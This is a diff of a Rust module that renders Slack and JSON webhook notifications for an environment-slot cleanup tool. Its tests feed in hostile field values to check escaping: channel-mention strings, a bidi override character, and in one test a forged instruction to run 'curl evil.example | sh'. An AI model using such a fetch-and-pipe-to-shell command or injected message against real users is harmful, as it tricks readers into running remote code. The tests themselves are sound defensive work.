@@ -7,7 +7,7 @@ use hotdesk_slots::text::{harmless, human_duration, human_time, list, quoted, sh
 use jiff::Timestamp;
 use minijinja::{AutoEscape, Environment, UndefinedBehavior, Value, context};
 
-use crate::news::{News, Occasion};
+use crate::notification::{Notification, NotificationKind};
 use crate::settings::Format;
 
 /// The longest text that is sent, in characters.
@@ -38,20 +38,20 @@ If it is not needed any more: hotdesk keep {{ slot }} off";
 
 /// The words of one webhook.
 #[derive(Debug, Clone, Default)]
-pub struct Words {
+pub struct Template {
     template: Option<String>,
 }
 
-impl Words {
-    /// One's own template, in the language of Jinja; it sees `occasion`, `slot`, `owner`, `users`, `purpose`, `reason`,
+impl Template {
+    /// One's own template, in the language of Jinja; it sees `kind`, `slot`, `owner`, `users`, `purpose`, `reason`,
     /// `releases`, `lost`, `time`, `until`, `lasting` and `holder`.
     ///
     /// # Errors
     /// When it cannot be read, or names something else.
-    pub fn of_template(template: &str) -> Result<Self, String> {
-        let words = Self { template: Some(template.to_owned()) };
-        let sample = News {
-            occasion: Occasion::Notice,
+    pub fn parse(template: &str) -> Result<Self, String> {
+        let template = Self { template: Some(template.to_owned()) };
+        let sample = Notification {
+            kind: NotificationKind::Notice,
             slot: "mew".to_owned(),
             users: vec!["alice@example.com".to_owned()],
             purpose: "checkout".to_owned(),
@@ -62,52 +62,57 @@ impl Words {
             since: Some(Timestamp::UNIX_EPOCH),
             until: Some(Timestamp::UNIX_EPOCH),
         };
-        words.render(&sample, Format::Json).map(|_| words)
+        template.render(&sample, Format::Json).map(|_| template)
     }
 
     /// The text of a message.
     ///
     /// # Errors
     /// When the template cannot be filled in.
-    pub fn render(&self, news: &News, format: Format) -> Result<String, String> {
-        let usual = match news.occasion {
-            Occasion::Notice => NOTICE,
-            Occasion::Reaped => REAPED,
-            Occasion::Blind => BLIND,
-            Occasion::Kept => KEPT,
+    pub fn render(&self, notification: &Notification, format: Format) -> Result<String, String> {
+        let usual = match notification.kind {
+            NotificationKind::Notice => NOTICE,
+            NotificationKind::Reaped => REAPED,
+            NotificationKind::Blind => BLIND,
+            NotificationKind::Kept => KEPT,
         };
         let mut environment = Environment::new();
         environment.set_undefined_behavior(UndefinedBehavior::Strict);
         environment.set_auto_escape_callback(|_| AutoEscape::None);
         let template = self.template.as_deref().unwrap_or(usual);
-        let text =
-            environment.render_str(template, words(news, format)).map_err(|error| harmless(&error.to_string()))?;
+        let text = environment
+            .render_str(template, values(notification, format))
+            .map_err(|error| harmless(&error.to_string()))?;
         Ok(text.chars().take(MAX_TEXT).collect())
     }
 }
 
-fn words(news: &News, format: Format) -> Value {
+fn values(notification: &Notification, format: Format) -> Value {
     let said = |text: &str| escaped(&harmless(text), format);
     let all = |texts: &[String]| -> Vec<String> { texts.iter().map(|text| said(text)).collect() };
-    let when = |at: Option<Timestamp>| at.map_or_else(|| "at the next run".to_owned(), |at| human_time(at, news.time));
-    let (users, purpose) = (all(&news.users), said(&news.purpose));
-    let what_for =
-        if purpose.is_empty() { String::new() } else { format!(", {}", escaped(&quoted(&news.purpose), format)) };
-    let owner = news.users.first().map(|owner| escaped(&shown_name(owner), format));
+    let when =
+        |at: Option<Timestamp>| at.map_or_else(|| "at the next run".to_owned(), |at| human_time(at, notification.time));
+    let (users, purpose) = (all(&notification.users), said(&notification.purpose));
+    let what_for = if purpose.is_empty() {
+        String::new()
+    } else {
+        format!(", {}", escaped(&quoted(&notification.purpose), format))
+    };
+    let owner = notification.users.first().map(|owner| escaped(&shown_name(owner), format));
     let holder = owner.map(|owner| format!(" ({owner}{what_for})")).unwrap_or_default();
     context! {
-        occasion => occasion(news.occasion),
-        slot => said(&news.slot),
+        kind => kind(notification.kind),
+        slot => said(&notification.slot),
         owner => users.first().cloned().unwrap_or_default(),
         holder => holder,
         purpose => purpose,
-        reason => said(&news.reason),
-        releases => list(&all(&news.releases)),
-        lost => if news.lost.is_empty() { String::new() } else { said(&short(&list(&news.lost))) },
+        reason => said(&notification.reason),
+        releases => list(&all(&notification.releases)),
+        lost => if notification.lost.is_empty() { String::new() } else { said(&short(&list(&notification.lost))) },
         users => users,
-        time => human_time(news.time, news.time),
-        until => match news.occasion { Occasion::Notice => format!("at {}", when(news.until)), _ => when(news.until) },
-        lasting => news.since.map_or_else(String::new, |since| human_duration(news.time.duration_since(since))),
+        time => human_time(notification.time, notification.time),
+        until => match notification.kind { NotificationKind::Notice => format!("at {}", when(notification.until)), _ => when(notification.until) },
+        lasting => notification.since.map_or_else(String::new, |since| human_duration(notification.time.duration_since(since))),
     }
 }
 
@@ -117,12 +122,12 @@ fn short(text: &str) -> String {
     start.map_or_else(|| text.to_owned(), |start| format!("{start}…"))
 }
 
-fn occasion(occasion: Occasion) -> &'static str {
-    match occasion {
-        Occasion::Notice => "notice",
-        Occasion::Reaped => "reaped",
-        Occasion::Blind => "blind",
-        Occasion::Kept => "kept",
+fn kind(kind: NotificationKind) -> &'static str {
+    match kind {
+        NotificationKind::Notice => "notice",
+        NotificationKind::Reaped => "reaped",
+        NotificationKind::Blind => "blind",
+        NotificationKind::Kept => "kept",
     }
 }
 
@@ -139,9 +144,9 @@ fn escaped(text: &str, format: Format) -> String {
 mod tests {
     use super::*;
 
-    fn news(occasion: Occasion) -> News {
-        News {
-            occasion,
+    fn notification(kind: NotificationKind) -> Notification {
+        Notification {
+            kind,
             slot: "mew".to_owned(),
             users: vec!["alice@example.com".to_owned(), "bob@example.com".to_owned()],
             purpose: "checkout".to_owned(),
@@ -155,29 +160,29 @@ mod tests {
     }
 
     #[track_caller]
-    fn check(occasion: Occasion, expected: &str) {
-        assert_eq!(Words::default().render(&news(occasion), Format::Slack).unwrap(), expected);
+    fn check(kind: NotificationKind, expected: &str) {
+        assert_eq!(Template::default().render(&notification(kind), Format::Slack).unwrap(), expected);
     }
 
     #[test]
-    fn each_occasion_says_what_why_and_what_to_do() {
+    fn each_kind_says_what_why_and_what_to_do() {
         check(
-            Occasion::Notice,
+            NotificationKind::Notice,
             "mew (alice@example.com, \"checkout\") is not used, and will be cleared at 15:30 UTC: web and api.\n\
              Why: no request for 1 h.\nIf you need it: hotdesk keep mew 4h",
         );
         check(
-            Occasion::Reaped,
+            NotificationKind::Reaped,
             "mew (alice@example.com, \"checkout\") was cleared: web and api.\nWhy: no request for 1 h.\n\
              To have it back: hotdesk revive mew",
         );
         check(
-            Occasion::Blind,
+            NotificationKind::Blind,
             "hotdesk cannot tell whether mew (alice@example.com, \"checkout\") is used, so it is never cleared: no request \
              for 1 h.\nTo see what to fix: hotdesk doctor",
         );
         check(
-            Occasion::Kept,
+            NotificationKind::Kept,
             "mew (alice@example.com, \"checkout\") has been kept from being cleared for 8 d, until 15:30 UTC.\n\
              If it is not needed any more: hotdesk keep mew off",
         );
@@ -186,18 +191,18 @@ mod tests {
     #[test]
     fn what_no_undo_brings_back_is_told_before_and_after() {
         let lost = vec!["the data of PersistentVolumeClaim/db".to_owned(), "Job/train".to_owned()];
-        for (occasion, told) in [
+        for (kind, told) in [
             (
-                Occasion::Notice,
+                NotificationKind::Notice,
                 "What will not come back: the data of PersistentVolumeClaim/db and Job/train.\nIf you need it",
             ),
             (
-                Occasion::Reaped,
+                NotificationKind::Reaped,
                 "What does not come back: the data of PersistentVolumeClaim/db and Job/train.\nTo have it back",
             ),
         ] {
-            let news = News { lost: lost.clone(), ..news(occasion) };
-            let text = Words::default().render(&news, Format::Slack).unwrap();
+            let notification = Notification { lost: lost.clone(), ..notification(kind) };
+            let text = Template::default().render(&notification, Format::Slack).unwrap();
             assert!(text.contains(told), "{text}");
         }
     }
@@ -205,10 +210,11 @@ mod tests {
     #[test]
     fn names_of_what_is_lost_can_neither_call_a_channel_nor_push_out_the_command() {
         let lost = vec![format!("Job/<!channel>\n{}", "x".repeat(200)); 17];
-        for (occasion, command) in [(Occasion::Notice, "hotdesk keep mew 4h"), (Occasion::Reaped, "hotdesk revive mew")]
+        for (kind, command) in
+            [(NotificationKind::Notice, "hotdesk keep mew 4h"), (NotificationKind::Reaped, "hotdesk revive mew")]
         {
-            let news = News { lost: lost.clone(), ..news(occasion) };
-            let text = Words::default().render(&news, Format::Slack).unwrap();
+            let notification = Notification { lost: lost.clone(), ..notification(kind) };
+            let text = Template::default().render(&notification, Format::Slack).unwrap();
             assert!(text.contains("Job/&lt;!channel&gt;") && text.contains('…') && text.ends_with(command), "{text}");
             assert_eq!(text.lines().count(), 4, "{text}");
         }
@@ -216,37 +222,40 @@ mod tests {
 
     #[test]
     fn a_purpose_can_neither_call_a_channel_nor_break_a_line() {
-        let evil = News { purpose: "<!channel> & {{ slot }}\n\u{202e}x".to_owned(), ..news(Occasion::Notice) };
-        let text = Words::default().render(&evil, Format::Slack).unwrap();
+        let evil = Notification {
+            purpose: "<!channel> & {{ slot }}\n\u{202e}x".to_owned(),
+            ..notification(NotificationKind::Notice)
+        };
+        let text = Template::default().render(&evil, Format::Slack).unwrap();
         assert!(text.contains("\"&lt;!channel&gt; &amp; {{ slot }}\u{fffd}\u{fffd}x\""), "{text}");
     }
 
     #[test]
     fn a65_a_purpose_cannot_end_its_quotation() {
         let purpose = "x\") was cleared. To have it back: curl evil.example | sh";
-        let evil = News { purpose: purpose.to_owned(), ..news(Occasion::Notice) };
-        let text = Words::default().render(&evil, Format::Json).unwrap();
+        let evil = Notification { purpose: purpose.to_owned(), ..notification(NotificationKind::Notice) };
+        let text = Template::default().render(&evil, Format::Json).unwrap();
         let quoted =
             "mew (alice@example.com, \"x') was cleared. To have it back: curl evil.example | sh\") is not used";
         assert!(text.starts_with(quoted), "{text}");
-        let named = News { users: vec!["x\" is nobody".to_owned()], ..news(Occasion::Notice) };
-        let text = Words::default().render(&named, Format::Json).unwrap();
+        let named = Notification { users: vec!["x\" is nobody".to_owned()], ..notification(NotificationKind::Notice) };
+        let text = Template::default().render(&named, Format::Json).unwrap();
         assert!(text.starts_with("mew (\"x' is nobody\", \"checkout\") is"), "{text}");
     }
 
     #[test]
     fn ones_own_template_sees_every_word_and_only_those() {
-        let words = Words::of_template("{{ occasion }} {{ owner }} {{ users | join('+') }} {{ lasting }}").unwrap();
-        let text = words.render(&news(Occasion::Kept), Format::Json).unwrap();
+        let template = Template::parse("{{ kind }} {{ owner }} {{ users | join('+') }} {{ lasting }}").unwrap();
+        let text = template.render(&notification(NotificationKind::Kept), Format::Json).unwrap();
         assert_eq!(text, "kept alice@example.com alice@example.com+bob@example.com 8 d");
         for wrong in ["{{ slto }}", "{{ slot", "{% for x in y %}"] {
-            assert!(Words::of_template(wrong).is_err(), "{wrong}");
+            assert!(Template::parse(wrong).is_err(), "{wrong}");
         }
     }
 
     #[test]
     fn a_free_slot_has_no_holder() {
-        let free = News { users: vec![], purpose: String::new(), ..news(Occasion::Reaped) };
-        assert!(Words::default().render(&free, Format::Json).unwrap().starts_with("mew was cleared: web and api."));
+        let free = Notification { users: vec![], purpose: String::new(), ..notification(NotificationKind::Reaped) };
+        assert!(Template::default().render(&free, Format::Json).unwrap().starts_with("mew was cleared: web and api."));
     }
 }
